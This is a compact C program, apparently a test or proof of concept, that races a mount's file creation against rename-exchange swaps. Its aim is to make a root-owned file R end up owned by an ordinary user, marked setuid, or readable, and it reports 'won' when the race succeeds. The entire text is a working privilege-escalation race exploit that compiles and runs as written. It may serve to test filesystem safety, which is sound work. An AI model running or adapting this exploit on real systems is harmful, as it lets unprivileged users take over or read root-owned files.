// swaps KIND SERVED BENEATH SECONDS: an ordinary user with a directory of its own, in which root has
// the file R. One process makes files by the mount (SERVED), another moves names beneath it
// (BENEATH), so that what was just made is R by the time it is given, marked or opened. Prints "won"
// when R was given to the user (given), got the setuid bit (setuid), or could be read (opened).
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <signal.h>
#include <stdio.h>
#include <string.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

#ifndef RENAME_EXCHANGE
#define RENAME_EXCHANGE 2
#endif

static char served[512], beneath[512], roots[512];
static int is_setuid;

static int exchange(void)
{
	return syscall(SYS_renameat2, AT_FDCWD, beneath, AT_FDCWD, roots, RENAME_EXCHANGE);
}

// Ends with 0 once R has what it must never get.
static void swap(time_t until)
{
	struct stat now;

	while (time(NULL) < until) {
		if (lstat(beneath, &now) || (is_setuid && now.st_uid != getuid()))
			continue;
		if (!exchange()) {
			usleep(400);
			if (!lstat(beneath, &now)) {
				int was_given = now.st_uid == getuid() && now.st_size == 7;
				int was_marked = now.st_uid == 0 && (now.st_mode & S_ISUID);
				if (is_setuid ? was_marked : was_given)
					_exit(0);
				exchange();
			}
		}
		unlink(beneath);
	}
	_exit(1);
}

// Has R stand under the name for moments.
static void lend(time_t until)
{
	while (time(NULL) < until) {
		rename(roots, beneath);
		usleep(50);
		rename(beneath, roots);
		usleep(50);
	}
	_exit(1);
}

int main(int count, char **words)
{
	if (count != 5)
		return 2;
	int is_opened = !strcmp(words[1], "opened");
	int seconds = 0, status = 1;
	long tries = 0;

	is_setuid = !strcmp(words[1], "setuid");
	snprintf(served, sizeof served, "%s/x", words[2]);
	snprintf(beneath, sizeof beneath, "%s/x", words[3]);
	snprintf(roots, sizeof roots, "%s/R", words[3]);
	sscanf(words[4], "%d", &seconds);
	umask(0);
	time_t until = time(NULL) + seconds;
	pid_t other = fork();
	if (other == 0) {
		if (is_opened)
			lend(until);
		swap(until);
	}
	while (waitpid(other, &status, WNOHANG) == 0) {
		tries++;
		if (!is_opened) {
			mknod(served, S_IFREG | (is_setuid ? 04755 : 0666), 0);
			continue;
		}
		char secret[8] = "";
		int fd = open(served, O_RDWR | O_CREAT, 0600);
		if (fd < 0)
			continue;
		if (read(fd, secret, 7) == 7) {
			printf("won after %ld\n", tries);
			kill(other, SIGKILL);
			return 0;
		}
		close(fd);
		// What was made and is the user's own.
		unlink(served);
	}
	printf("%s after %ld\n", WIFEXITED(status) && WEXITSTATUS(status) == 0 ? "won" : "not", tries);
	return 0;
}
